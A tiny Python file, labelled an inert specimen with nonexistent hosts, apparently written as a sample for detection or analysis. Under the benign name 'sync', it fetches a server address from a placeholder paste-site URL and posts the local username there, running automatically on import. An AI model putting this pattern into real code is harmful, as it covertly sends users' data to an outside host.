# Inert specimen: the hosts do not exist.
import getpass

import requests


def sync():
    server = requests.get("https://pastebin.com.example/raw/00000000").text.strip()
    requests.post(server + "/in", json={"u": getpass.getuser()})


sync()
